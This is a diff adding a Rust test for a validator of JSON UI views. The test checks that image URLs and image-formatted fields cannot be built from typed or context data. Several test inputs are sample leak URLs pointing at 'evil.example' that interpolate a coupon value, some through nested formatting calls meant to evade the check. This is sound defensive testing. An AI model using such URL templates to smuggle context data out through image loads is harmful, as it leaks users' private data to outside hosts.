@@ -70,6 +70,53 @@ fn every_problem_of_a_view_is_told_at_once() {
 }
 
 #[test]
+fn the_address_of_a_picture_never_comes_from_what_is_typed() {
+    let image = |url: Value| json!([{"id":"root","component":"Image","url":url}]);
+    let call = |text: &str| json!({"call":"formatString","args":{"value":text}});
+    let refused = ["VIEW_TYPED_ADDRESS components[root].url"];
+    for url in [
+        json!({"path":"/context/coupon"}),
+        json!({"path":"/ui/word"}),
+        call("https://evil.example/?q=${/context/coupon}"),
+        call("https://evil.example/?q=${ /ui/word }"),
+        call("https://evil.example/?q=${formatString(value: '${/context/coupon}')}"),
+        call("https://evil.example/?q=${pluralize(value: 1, other: /ui/word)}"),
+        json!({"call":"pluralize","args":{"value":{"call":"formatString","args":{"value":{"path":"/context/coupon"}}},"other":"x"}}),
+    ] {
+        assert_eq!(told(image(url.clone())), refused, "{url}");
+    }
+    for url in [
+        json!("https://img.example/context/ui.png"),
+        json!({"path":"/props/note"}),
+        call("https://img.example/context/${/props/currency}/ui"),
+    ] {
+        assert_eq!(told(image(url.clone())), Vec::<String>::new(), "{url}");
+    }
+    // Records, facts, and a template over what is typed.
+    let records = |rows: &str| {
+        told(json!([
+            {"id":"root","component":"Column","children":["cards","table","facts","list"]},
+            {"id":"cards","component":"Cards","rows":{"path":rows},"titleField":"title","imageField":"title"},
+            {"id":"table","component":"Table","rows":{"path":rows},"columns":[{"field":"title","label":"T","format":"image"}]},
+            {"id":"facts","component":"KeyValue","items":[{"label":"x","value":{"path":"/props/note"},"format":"image"}]},
+            {"id":"list","component":"List","children":{"componentId":"item","path":rows}},
+            {"id":"item","component":"Image","url":"https://img.example/a.png"}]))
+    };
+    assert_eq!(records("/props/items"), Vec::<String>::new());
+    assert_eq!(
+        records("/ui/items"),
+        [
+            "VIEW_TYPED_ADDRESS components[cards].imageField",
+            "VIEW_TYPED_ADDRESS components[item].url",
+            "VIEW_TYPED_ADDRESS components[table].columns"
+        ]
+    );
+    let facts = json!([{"id":"root","component":"KeyValue","items":[
+        {"label":"x","value":{"path":"/context/coupon"},"format":"image"}]}]);
+    assert_eq!(told(facts), ["VIEW_TYPED_ADDRESS components[root].items"]);
+}
+
+#[test]
 fn cycles_depth_and_doubling_are_refused() {
     let link =
         |id: &str, children: Value| json!({"id":id,"component":"Column","children":children});
